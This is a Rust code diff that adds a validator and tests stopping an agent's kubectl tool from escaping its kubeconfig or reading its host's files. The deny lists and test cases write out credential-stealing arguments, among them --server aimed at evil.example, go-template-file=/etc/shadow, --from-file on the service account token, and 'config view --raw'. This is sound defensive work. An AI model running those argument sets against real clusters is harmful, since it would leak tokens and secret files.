@@ -26,6 +26,42 @@ const KUBECTL_DIR: &str = "kubectl";
 /// caps at 8 KiB.
 pub(crate) const STDERR_IN_MESSAGE: usize = 4 * 1024;
 
+/// Flags that would make `kubectl` use another server, other credentials or
+/// another kubeconfig than the agent's: `--server` sends the agent's token
+/// to any host, `--kubeconfig` picks up a kubeconfig of the host (k3s's
+/// admin one), `--profile-output` writes a file of the agent's.
+const REFUSED_FLAGS: &[&str] = &[
+    "--kubeconfig",
+    "--server",
+    "-s",
+    "--token",
+    "--username",
+    "--password",
+    "--certificate-authority",
+    "--client-certificate",
+    "--client-key",
+    "--insecure-skip-tls-verify",
+    "--tls-server-name",
+    "--context",
+    "--cluster",
+    "--user",
+    "--cache-dir",
+    "--profile-output",
+    // Read a file of the agent's host into the answer (with --dry-run=client
+    // no cluster right is needed): its key, its token.
+    "--from-file",
+    "--from-env-file",
+];
+
+/// Words in any argument that name a local file `kubectl` reads and prints
+/// (`-o go-template-file=PATH` renders a file without actions verbatim).
+const REFUSED_WORDS: &[&str] = &["template-file", "jsonpath-file"];
+
+/// Commands that print the agent's credentials (`config view --raw`), keep
+/// a listener open with them (`proxy`, `port-forward`), write the agent's
+/// files (`cp`) or wait for an editor (`edit`).
+const REFUSED_COMMANDS: &[&str] = &["config", "proxy", "port-forward", "cp", "edit"];
+
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct KubectlConfig {
     /// The binary; a bare name is looked up in PATH.
@@ -71,7 +107,10 @@ fn parse(input: &Value) -> Result<Vec<String>, ActionError> {
     let input: Input = serde_json::from_value(input.clone())
         .map_err(|e| ActionError::invalid("$", e.to_string()))?;
     match input.command.as_deref() {
-        Some("kubectl") => Ok(input.arguments),
+        Some("kubectl") => {
+            check_arguments(&input.arguments)?;
+            Ok(input.arguments)
+        }
         Some(other) => Err(ActionError::invalid(
             "$.command",
             format!("only kubectl can be run, not {other:?}"),
@@ -81,6 +120,71 @@ fn parse(input: &Value) -> Result<Vec<String>, ActionError> {
             "missing: it must be \"kubectl\"",
         )),
     }
+}
+
+/// Refuses the arguments that would escape the agent's kubeconfig or reach
+/// the agent's own files and listeners; `kubectl` itself checks the rest.
+fn check_arguments(arguments: &[String]) -> Result<(), ActionError> {
+    let refused =
+        |index: usize, why: String| Err(ActionError::invalid(format!("$.arguments[{index}]"), why));
+    // The command is the first word that is not a flag; a word after a
+    // flag without `=` may be that flag's value or the command, so it is
+    // checked too (`-n ns proxy`, `--v 9 proxy`).
+    let mut after_flag = false;
+    let mut command_seen = false;
+    for (index, argument) in arguments.iter().enumerate() {
+        let flag = argument
+            .split_once('=')
+            .map_or(argument.as_str(), |(f, _)| f);
+        if REFUSED_FLAGS.contains(&flag) || sets_server_by_shorthand(argument) {
+            return refused(
+                index,
+                format!(
+                    "{flag} is refused: kubectl runs with the agent's own kubeconfig and never reads the agent's files"
+                ),
+            );
+        }
+        if let Some(word) = REFUSED_WORDS.iter().find(|w| argument.contains(*w)) {
+            return refused(
+                index,
+                format!("{word} is refused: kubectl never reads the agent's files"),
+            );
+        }
+        if argument.starts_with('-') {
+            after_flag = !argument.contains('=');
+            continue;
+        }
+        if !command_seen && REFUSED_COMMANDS.contains(&argument.as_str()) {
+            return refused(
+                index,
+                format!(
+                    "kubectl {argument} is refused: it would expose the agent's credentials or files, or never finish"
+                ),
+            );
+        }
+        command_seen |= !after_flag;
+        after_flag = false;
+    }
+    Ok(())
+}
+
+/// Whether a group of one-letter flags sets `-s` (`--server`): `-shttp://h`
+/// and `-As` do, as pflag reads them; the letters before it must be
+/// switches, since a letter that takes a value takes the rest as it
+/// (`-nstaging` is a namespace).
+fn sets_server_by_shorthand(argument: &str) -> bool {
+    let Some(letters) = argument.strip_prefix('-').filter(|l| !l.starts_with('-')) else {
+        return false;
+    };
+    for letter in letters.chars() {
+        match letter {
+            's' => return true,
+            // kubectl's one-letter switches (-A all namespaces, -w watch, ...).
+            'A' | 'w' | 'i' | 't' | 'q' | 'R' | 'h' | 'p' | 'W' => continue,
+            _ => return false,
+        }
+    }
+    false
 }
 
 pub async fn run(input: &Value, kubernetes: &Kubernetes) -> Result<Answer, ActionError> {
@@ -254,6 +358,104 @@ mod tests {
             let err = parse(&bad).expect_err("refused");
             assert_eq!(err.status_code(), 400);
             assert!(err.to_string().starts_with(path), "{bad}: {err}");
+        }
+    }
+
+    #[test]
+    fn arguments_that_escape_the_agents_kubeconfig_or_reach_its_files_are_refused() {
+        let check = |arguments: &[&str]| {
+            parse(&json!({"command": "kubectl", "arguments": arguments}))
+                .map(|_| ())
+                .map_err(|e| (e.status_code(), e.to_string()))
+        };
+        for fine in [
+            &["get", "pods", "-n", "kube-system"][..],
+            &["-n", "kube-system", "get", "pods"],
+            &["--namespace=default", "logs", "proxy"],
+            &["get", "deployment", "config", "-o", "yaml"],
+            &["apply", "-f", "https://example.com/app.yaml"],
+            &["get", "ns", "-o", "go-template={{.metadata.name}}"],
+            &["-nstaging", "get", "pods", "-w"],
+        ] {
+            assert_eq!(check(fine), Ok(()), "{fine:?}");
+        }
+        for (bad, at, word) in [
+            (
+                &["get", "pods", "--server=https://evil.example"][..],
+                2,
+                "--server",
+            ),
+            (
+                &["--server", "https://evil.example", "get", "pods"],
+                0,
+                "--server",
+            ),
+            (&["get", "pods", "-s", "http://evil.example"], 2, "-s"),
+            (&["get", "pods", "-shttp://evil.example"], 2, "-shttp"),
+            (&["get", "pods", "-As", "http://evil.example"], 2, "-As"),
+            (
+                &["--kubeconfig=/etc/rancher/k3s/k3s.yaml", "get", "nodes"],
+                0,
+                "--kubeconfig",
+            ),
+            (&["get", "pods", "--token", "t"], 2, "--token"),
+            (
+                &["get", "pods", "--insecure-skip-tls-verify"],
+                2,
+                "--insecure-skip-tls-verify",
+            ),
+            (
+                &[
+                    "get",
+                    "pods",
+                    "--certificate-authority=/etc/ssl/certs/ca-certificates.crt",
+                ],
+                2,
+                "--certificate-authority",
+            ),
+            (
+                &[
+                    "create",
+                    "secret",
+                    "generic",
+                    "x",
+                    "--from-file=/var/run/secrets/kubernetes.io/serviceaccount/token",
+                    "--dry-run=client",
+                ],
+                4,
+                "--from-file",
+            ),
+            (
+                &["get", "ns", "default", "-o", "go-template-file=/etc/shadow"],
+                4,
+                "template-file",
+            ),
+            (
+                &["get", "ns", "-ojsonpath-file=/etc/shadow"],
+                2,
+                "jsonpath-file",
+            ),
+            (&["config", "view", "--raw"], 0, "config"),
+            (&["proxy", "--address=0.0.0.0"], 0, "proxy"),
+            (
+                &["-n", "default", "port-forward", "svc/x", "8080"],
+                2,
+                "port-forward",
+            ),
+            (&["--v", "9", "proxy"], 2, "proxy"),
+            (
+                &["cp", "default/pod:/x", "/var/lib/tether-agent/x"],
+                0,
+                "cp",
+            ),
+            (&["edit", "deployment/x"], 0, "edit"),
+        ] {
+            let (status, message) = check(bad).expect_err(&format!("{bad:?} refused"));
+            assert_eq!(status, 400, "{bad:?}");
+            assert!(
+                message.starts_with(&format!("$.arguments[{at}]")) && message.contains(word),
+                "{bad:?}: {message}"
+            );
         }
     }
 
